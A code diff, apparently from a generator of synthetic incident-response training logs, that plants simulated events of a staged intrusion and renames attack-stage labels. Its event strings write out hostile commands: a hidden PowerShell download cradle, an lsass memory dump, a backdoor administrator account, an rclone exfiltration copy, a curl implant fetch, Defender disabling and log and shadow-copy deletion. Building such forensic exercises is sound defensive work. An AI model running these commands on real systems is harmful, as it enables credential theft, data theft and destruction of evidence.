@@ -93,14 +93,14 @@ void plantWorkstation(CaseLogs& logs)
     const std::string script = "$c=New-Object Net.WebClient;IEX $c.DownloadString('https://cdn.tidewatch.example/a/u')";
     const ProcessFacts shell = windows.child(host, logs.at(1, 8, 32, 7), word, std::string(kPowerShell),
                                              "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " + encodedCommand(script));
-    logs.plant(logs.at(1, 8, 32, 7), Stage::Exploitation, host.name, "Word, opened from a mail, starts hidden PowerShell with an encoded download command.",
+    logs.plant(logs.at(1, 8, 32, 7), attack::Stage::Exploitation, host.name, "Word, opened from a mail, starts hidden PowerShell with an encoded download command.",
                WindowsLog::path(host, kSecurity));
     windows.add(host, logs.at(1, 8, 32, 16), sysmonFileEvent(host, shell, R"(C:\Users\mlindqvist\AppData\Roaming\nwupd\agent.ps1)", logs.at(1, 8, 32, 16)));
     for (Ticks beat = logs.at(1, 8, 32, 12); beat < logs.at(2, 2, 10); beat += random.between(290, 310) * kTicksPerSecond) {
         windows.connection(host, jitter(random, beat), shell, Company::kRelay, kBeaconHost, 443);
         tcp(logs, beat, host.ip, Company::kRelay, 443, 3, "wks-nsg", "DefaultRule_AllowInternetOutBound", false, 2400, 1900);
     }
-    logs.plant(logs.at(1, 8, 32, 12), Stage::Exploitation, host.name, "Beacon to " + std::string(Company::kRelay) + " port 443 about every five minutes, until 02:10 of the next night.",
+    logs.plant(logs.at(1, 8, 32, 12), attack::Stage::Exploitation, host.name, "Beacon to " + std::string(Company::kRelay) + " port 443 about every five minutes, until 02:10 of the next night.",
                WindowsLog::path(host, kSysmon));
     const std::string_view cmdPath = kCmd;
     int second = 4;
@@ -110,11 +110,11 @@ void plantWorkstation(CaseLogs& logs)
         windows.child(host, logs.at(1, 8, 41, second + 1), cmd, R"(C:\Windows\System32\)" + tool + ".exe", std::string(command));
         second += 12;
     }
-    logs.plant(logs.at(1, 8, 41, 4), Stage::Reconnaissance, host.name, "Discovery of the domain: whoami, net group, nltest, net view.", WindowsLog::path(host, kSecurity));
+    logs.plant(logs.at(1, 8, 41, 4), attack::Stage::Reconnaissance, host.name, "Discovery of the domain: whoami, net group, nltest, net view.", WindowsLog::path(host, kSecurity));
     const Session elevated = shell.session;
     windows.add(host, logs.at(1, 8, 36, 30), taskCreatedEvent(host, elevated, R"(\Microsoft\Windows\NwUpdate\Check)", std::string(kPowerShell),
         R"(-NoP -W Hidden -Exec Bypass -File C:\Users\mlindqvist\AppData\Roaming\nwupd\agent.ps1)"));
-    logs.plant(logs.at(1, 8, 36, 30), Stage::Exploitation, host.name, "Hidden scheduled task \\Microsoft\\Windows\\NwUpdate\\Check runs the implant every 15 minutes.",
+    logs.plant(logs.at(1, 8, 36, 30), attack::Stage::Exploitation, host.name, "Hidden scheduled task \\Microsoft\\Windows\\NwUpdate\\Check runs the implant every 15 minutes.",
                WindowsLog::path(host, kSecurity));
 
     ProcessFacts high = shell;
@@ -123,7 +123,7 @@ void plantWorkstation(CaseLogs& logs)
                                             R"(procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\ls.dmp)");
     windows.add(host, logs.at(1, 9, 10, 27), sysmonAccessEvent(host, dump, R"(C:\Windows\system32\lsass.exe)", 0x1FFFFF, logs.at(1, 9, 10, 27)));
     windows.add(host, logs.at(1, 9, 10, 29), sysmonFileEvent(host, dump, R"(C:\Users\Public\ls.dmp)", logs.at(1, 9, 10, 29)));
-    logs.plant(logs.at(1, 9, 10, 26), Stage::PrivilegeEscalation, host.name, "procdump64 copies the memory of lsass.exe; the administrator's account was cached there.",
+    logs.plant(logs.at(1, 9, 10, 26), attack::Stage::PrivilegeEscalation, host.name, "procdump64 copies the memory of lsass.exe; the administrator's account was cached there.",
                WindowsLog::path(host, kSysmon));
 }
 
@@ -140,7 +140,7 @@ void plantLateralMovement(CaseLogs& logs)
     windows.add(from, logs.at(1, 10, 1, 48), explicitLogonEvent(from, subject, company.adminAccount, mgmt.computer, 0x1A2C, R"(C:\Windows\System32\mstsc.exe)"));
     const Session desktop = remoteDesktop(logs, mgmt, logs.at(1, 10, 2, 3), company.adminAccount, from.ip, from.name);
     tcp(logs, logs.at(1, 10, 2, 1), from.ip, mgmt.ip, 3389, 58'080, "mgmt-nsg", "DefaultRule_AllowVnetInBound", true, 38'000'000, 412'000'000);
-    logs.plant(logs.at(1, 10, 2, 3), Stage::LateralMovement, "mgmt-vm01", "Remote Desktop logon (type 10) of adm-treyer from wks-0231, where the administrator does not work.",
+    logs.plant(logs.at(1, 10, 2, 3), attack::Stage::LateralMovement, "mgmt-vm01", "Remote Desktop logon (type 10) of adm-treyer from wks-0231, where the administrator does not work.",
                WindowsLog::path(mgmt, kSecurity));
 
     ProcessFacts shell = windows.process(mgmt, logs.at(1, 10, 9, 30), start(desktop, kPowerShell, "powershell.exe -nop -ep bypass", R"(C:\Windows\explorer.exe)", "High"));
@@ -155,22 +155,22 @@ void plantLateralMovement(CaseLogs& logs)
         flow.allowed = false;
         logs.flows.add(flow);
     }
-    logs.plant(logs.at(1, 10, 12), Stage::Reconnaissance, "mgmt-vm01", "Sweep of 240 ports of the database server, denied by its NSG.", FlowLog::path("db-nsg"));
+    logs.plant(logs.at(1, 10, 12), attack::Stage::Reconnaissance, "mgmt-vm01", "Sweep of 240 ports of the database server, denied by its NSG.", FlowLog::path("db-nsg"));
 
     windows.child(mgmt, logs.at(1, 10, 20, 11), shell, R"(C:\Windows\System32\net.exe)", "net user svc_update Harbour!2026 /add");
     windows.add(mgmt, logs.at(1, 10, 20, 12), accountCreatedEvent(mgmt, desktop, company.local));
     windows.add(mgmt, logs.at(1, 10, 20, 12) + 3000, accountEnabledEvent(mgmt, desktop, company.local));
     windows.child(mgmt, logs.at(1, 10, 20, 40), shell, R"(C:\Windows\System32\net.exe)", "net localgroup Administrators svc_update /add");
     windows.add(mgmt, logs.at(1, 10, 20, 41), groupMemberEvent(mgmt, desktop, company.local));
-    logs.plant(logs.at(1, 10, 20, 12), Stage::PrivilegeEscalation, "mgmt-vm01", "New local account svc_update, made a member of Administrators within half a minute.",
+    logs.plant(logs.at(1, 10, 20, 12), attack::Stage::PrivilegeEscalation, "mgmt-vm01", "New local account svc_update, made a member of Administrators within half a minute.",
                WindowsLog::path(mgmt, kSecurity));
 
     const Session controller = network(logs, company.dc, logs.at(1, 10, 46, 5), company.adminAccount, mgmt.ip, true);
     windows.add(company.dc, logs.at(1, 10, 46, 9), serviceTicketEvent(company.dc, company.adminAccount, "svc-sql", mgmt.ip, 51822, 0x17));
     for (int i = 0; i < 3; ++i)
         windows.add(company.dc, logs.at(1, 10, 47, 2 + i), replicationEvent(company.dc, controller));
-    logs.plant(logs.at(1, 10, 46, 5), Stage::LateralMovement, "dc-01", "Network logon (type 3) of adm-treyer on the domain controller from mgmt-vm01.", WindowsLog::path(company.dc, kSecurity));
-    logs.plant(logs.at(1, 10, 47, 2), Stage::PrivilegeEscalation, "dc-01", "Directory replication rights used by a person's account (4662): password hashes of the domain are read.",
+    logs.plant(logs.at(1, 10, 46, 5), attack::Stage::LateralMovement, "dc-01", "Network logon (type 3) of adm-treyer on the domain controller from mgmt-vm01.", WindowsLog::path(company.dc, kSecurity));
+    logs.plant(logs.at(1, 10, 47, 2), attack::Stage::PrivilegeEscalation, "dc-01", "Directory replication rights used by a person's account (4662): password hashes of the domain are read.",
                WindowsLog::path(company.dc, kSecurity));
     tcp(logs, logs.at(1, 10, 46, 4), mgmt.ip, company.dc.ip, 389, 90, "dc-nsg", "UserRule_Allow-Directory-Tcp", true, 61'000, 8'400'000);
 }
@@ -192,7 +192,7 @@ void plantApplicationServer(CaseLogs& logs)
     windows.add(app, logs.at(1, 10, 31, 2) + 4'000'000, shareFileEvent(app, session, company.mgmt.ip, 50411, R"(\\*\ADMIN$)", "PSEXESVC.exe"));
     windows.add(app, logs.at(1, 10, 31, 3), serviceRegisteredEvent(app, company.adminAccount.sid, "PSEXESVC", R"(%SystemRoot%\PSEXESVC.exe)"));
     windows.add(app, logs.at(1, 10, 31, 3), serviceInstalledEvent(app, session, "PSEXESVC", R"(%SystemRoot%\PSEXESVC.exe)"));
-    logs.plant(logs.at(1, 10, 31, 3), Stage::LateralMovement, "app-vm01", "PsExec from mgmt-vm01: service PSEXESVC installed (7045, 4697) after a type 3 logon.",
+    logs.plant(logs.at(1, 10, 31, 3), attack::Stage::LateralMovement, "app-vm01", "PsExec from mgmt-vm01: service PSEXESVC installed (7045, 4697) after a type 3 logon.",
                WindowsLog::path(app, "System"));
     const Session system{Company::system(app), 0x3E7, {}};
     const ProcessFacts service = windows.process(app, logs.at(1, 10, 31, 4), start(system, R"(C:\Windows\PSEXESVC.exe)", R"(C:\Windows\PSEXESVC.exe)", kServices, "System"));
@@ -209,21 +209,21 @@ void plantDatabaseServer(CaseLogs& logs)
     WindowsLog& windows = logs.windows;
     const Session desktop = remoteDesktop(logs, db, logs.at(1, 10, 38, 2), company.adminAccount, company.app.ip, company.app.name);
     tcp(logs, logs.at(1, 10, 37, 59), company.app.ip, db.ip, 3389, 55'900, "db-nsg", "UserRule_Allow-Rdp-From-App", true, 21'000'000, 187'000'000);
-    logs.plant(logs.at(1, 10, 38, 2), Stage::LateralMovement, "db-vm01",
+    logs.plant(logs.at(1, 10, 38, 2), attack::Stage::LateralMovement, "db-vm01",
                "Remote Desktop logon from app-vm01, through a rule left from the migration (Allow-Rdp-From-App).", WindowsLog::path(db, kSecurity));
     const ProcessFacts cmd = windows.process(db, logs.at(1, 10, 39, 10), start(desktop, kCmd, "\"C:\\Windows\\System32\\cmd.exe\"", R"(C:\Windows\explorer.exe)", "High"));
 
     const std::string preference = "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true";
     windows.child(db, logs.at(1, 22, 15, 2), cmd, std::string(kPowerShell), preference);
     windows.add(db, logs.at(1, 22, 15, 4), defenderDisabledEvent(db));
-    logs.plant(logs.at(1, 22, 15, 2), Stage::AntiForensics, "db-vm01", "Real-time protection of Microsoft Defender switched off (event 5001).",
+    logs.plant(logs.at(1, 22, 15, 2), attack::Stage::Obfuscation, "db-vm01", "Real-time protection of Microsoft Defender switched off (event 5001).",
                WindowsLog::path(db, "Microsoft-Windows-Windows Defender/Operational"));
     windows.child(db, logs.at(2, 1, 4, 12), cmd, R"(C:\Program Files\7-Zip\7z.exe)", R"(7z.exe a -t7z -mhe=on -pTidal C:\ProgramData\b.7z E:\Backup\orders.bak)");
     const ProcessFacts copy = windows.child(db, logs.at(2, 1, 18, 40), cmd, R"(C:\ProgramData\rclone.exe)", R"(rclone.exe copy C:\ProgramData\b.7z out:drop --no-check-certificate)");
     windows.connection(db, logs.at(2, 1, 18, 43), copy, Company::kRelay, kBeaconHost, 443);
     tcp(logs, logs.at(2, 1, 18, 43), db.ip, Company::kRelay, 443, 1860, "db-nsg", "UserRule_allow-any-temp", false, 9'412'000'000, 31'000'000);
-    logs.plant(logs.at(2, 1, 4, 12), Stage::Exfiltration, "db-vm01", "The order database's backup is packed with a password (7z).", WindowsLog::path(db, kSecurity));
-    logs.plant(logs.at(2, 1, 18, 43), Stage::Exfiltration, "db-vm01", "9.4 GB leave the database server for " + std::string(Company::kRelay) + " port 443 within half an hour.",
+    logs.plant(logs.at(2, 1, 4, 12), attack::Stage::Exfiltration, "db-vm01", "The order database's backup is packed with a password (7z).", WindowsLog::path(db, kSecurity));
+    logs.plant(logs.at(2, 1, 18, 43), attack::Stage::Exfiltration, "db-vm01", "9.4 GB leave the database server for " + std::string(Company::kRelay) + " port 443 within half an hour.",
                FlowLog::path("db-nsg"));
 }
 
@@ -237,7 +237,7 @@ void plantHostConcealment(CaseLogs& logs)
     subject.logonId = kIntruderDesktop;
     const ProcessFacts cmd = start(subject, kCmd, "\"C:\\Windows\\System32\\cmd.exe\"", R"(C:\Windows\explorer.exe)", "High");
     windows.child(db, logs.at(2, 2, 5, 10), cmd, R"(C:\Windows\System32\vssadmin.exe)", "vssadmin.exe delete shadows /all /quiet");
-    logs.plant(logs.at(2, 2, 5, 10), Stage::AntiForensics, "db-vm01", "Shadow copies deleted with vssadmin.", WindowsLog::path(db, kSecurity));
+    logs.plant(logs.at(2, 2, 5, 10), attack::Stage::Obfuscation, "db-vm01", "Shadow copies deleted with vssadmin.", WindowsLog::path(db, kSecurity));
     int second = 5;
     for (const Host* host : {&db, &company.mgmt}) {
         const ProcessFacts shell = host == &db ? cmd : start(subject, kPowerShell, "powershell.exe -nop -ep bypass", R"(C:\Windows\explorer.exe)", "High");
@@ -245,7 +245,7 @@ void plantHostConcealment(CaseLogs& logs)
         windows.add(*host, logs.at(2, 2, 8, second + 1), securityLogClearedEvent(*host, subject));
         windows.child(*host, logs.at(2, 2, 8, second + 3), shell, R"(C:\Windows\System32\wevtutil.exe)", "wevtutil.exe cl System");
         windows.add(*host, logs.at(2, 2, 8, second + 4), systemLogClearedEvent(*host, subject, "System"));
-        logs.plant(logs.at(2, 2, 8, second + 1), Stage::AntiForensics, host->name, "Security and System logs cleared (1102, 104). The collector had the events already.",
+        logs.plant(logs.at(2, 2, 8, second + 1), attack::Stage::Obfuscation, host->name, "Security and System logs cleared (1102, 104). The collector had the events already.",
                    WindowsLog::path(*host, kSecurity));
         second += 25;
     }
@@ -258,7 +258,7 @@ void plantLinuxServer(CaseLogs& logs)
     Random random(logs.seed, "ssh");
     static constexpr std::array kGuesses{"admin", "oracle", "ubuntu", "test", "postgres"};
     Ticks guess = logs.at(1, 11, 6);
-    logs.plant(guess, Stage::PrivilegeEscalation, std::string(host), "SSH guessing of account names and passwords from mgmt-vm01 (10.1.5.4).", SyslogLog::path(host));
+    logs.plant(guess, attack::Stage::PrivilegeEscalation, std::string(host), "SSH guessing of account names and passwords from mgmt-vm01 (10.1.5.4).", SyslogLog::path(host));
     for (int i = 0; i < 150; ++i) {
         guess += random.between(3, 7) * kTicksPerSecond;
         const std::string user = kGuesses[static_cast<std::size_t>(i) % kGuesses.size()];
@@ -274,18 +274,18 @@ void plantLinuxServer(CaseLogs& logs)
     syslog.add(time, host, Facility::AuthPriv, Severity::Info, "sshd", 31877, "Accepted password for deploy from 10.1.5.4 port 52114 ssh2");
     syslog.add(time + 2'000'000, host, Facility::AuthPriv, Severity::Info, "sshd", 31877, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)");
     tcp(logs, time, logs.company.mgmt.ip, "10.1.3.4", 22, 3400, "au-nsg", "DefaultRule_AllowVnetInBound", true, 220'000, 460'000);
-    logs.plant(time, Stage::LateralMovement, std::string(host), "SSH logon of deploy with a password from mgmt-vm01; the account otherwise uses a key.", SyslogLog::path(host));
+    logs.plant(time, attack::Stage::LateralMovement, std::string(host), "SSH logon of deploy with a password from mgmt-vm01; the account otherwise uses a key.", SyslogLog::path(host));
     syslog.add(logs.at(1, 11, 21, 9), host, Facility::AuthPriv, Severity::Notice, "sudo", 31902, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash");
     syslog.add(logs.at(1, 11, 21, 9) + 500'000, host, Facility::AuthPriv, Severity::Info, "sudo", 31902, "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)");
-    logs.plant(logs.at(1, 11, 21, 9), Stage::PrivilegeEscalation, std::string(host), "deploy becomes root with sudo.", SyslogLog::path(host));
+    logs.plant(logs.at(1, 11, 21, 9), attack::Stage::PrivilegeEscalation, std::string(host), "deploy becomes root with sudo.", SyslogLog::path(host));
     syslog.add(logs.at(1, 11, 24, 51), host, Facility::AuthPriv, Severity::Notice, "sudo", 31955, "    root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -fsSL https://cdn.tidewatch.example/l -o /usr/local/sbin/nwupd");
     syslog.add(logs.at(1, 11, 25, 20), host, Facility::Cron, Severity::Info, "crontab", 31990, "(root) REPLACE (root)");
-    logs.plant(logs.at(1, 11, 25, 20), Stage::Exploitation, std::string(host), "Root's crontab replaced: the implant /usr/local/sbin/nwupd comes back every hour.", SyslogLog::path(host));
+    logs.plant(logs.at(1, 11, 25, 20), attack::Stage::Exploitation, std::string(host), "Root's crontab replaced: the implant /usr/local/sbin/nwupd comes back every hour.", SyslogLog::path(host));
     syslog.add(logs.at(2, 2, 14, 11), host, Facility::AuthPriv, Severity::Info, "sshd", 43988, "Accepted password for deploy from 10.1.5.4 port 58120 ssh2");
     syslog.add(logs.at(2, 2, 15, 2), host, Facility::AuthPriv, Severity::Notice, "sudo", 44012, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd");
     syslog.add(logs.at(2, 2, 15, 3), host, Facility::Daemon, Severity::Info, "systemd", 1, "Stopped Security Auditing Service.");
     syslog.add(logs.at(2, 2, 15, 20), host, Facility::AuthPriv, Severity::Notice, "sudo", 44020, "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/auth.log /root/.bash_history");
-    logs.plant(logs.at(2, 2, 15, 2), Stage::AntiForensics, std::string(host), "auditd stopped, auth.log and the shell history shredded.", SyslogLog::path(host));
+    logs.plant(logs.at(2, 2, 15, 2), attack::Stage::Obfuscation, std::string(host), "auditd stopped, auth.log and the shell history shredded.", SyslogLog::path(host));
 }
 
 void plantFlood(CaseLogs& logs)
@@ -306,7 +306,7 @@ void plantFlood(CaseLogs& logs)
         flow.sentBytes = flow.sentPackets * 60;
         logs.flows.add(flow);
     }
-    logs.plant(begin, Stage::DenialOfService, "app-vm01", "SYN flood of the order portal from some 2,600 addresses for 20 minutes, while the data is being copied.",
+    logs.plant(begin, attack::Stage::DenialOfService, "app-vm01", "SYN flood of the order portal from some 2,600 addresses for 20 minutes, while the data is being copied.",
                FlowLog::path("app-nsg"));
 }
 
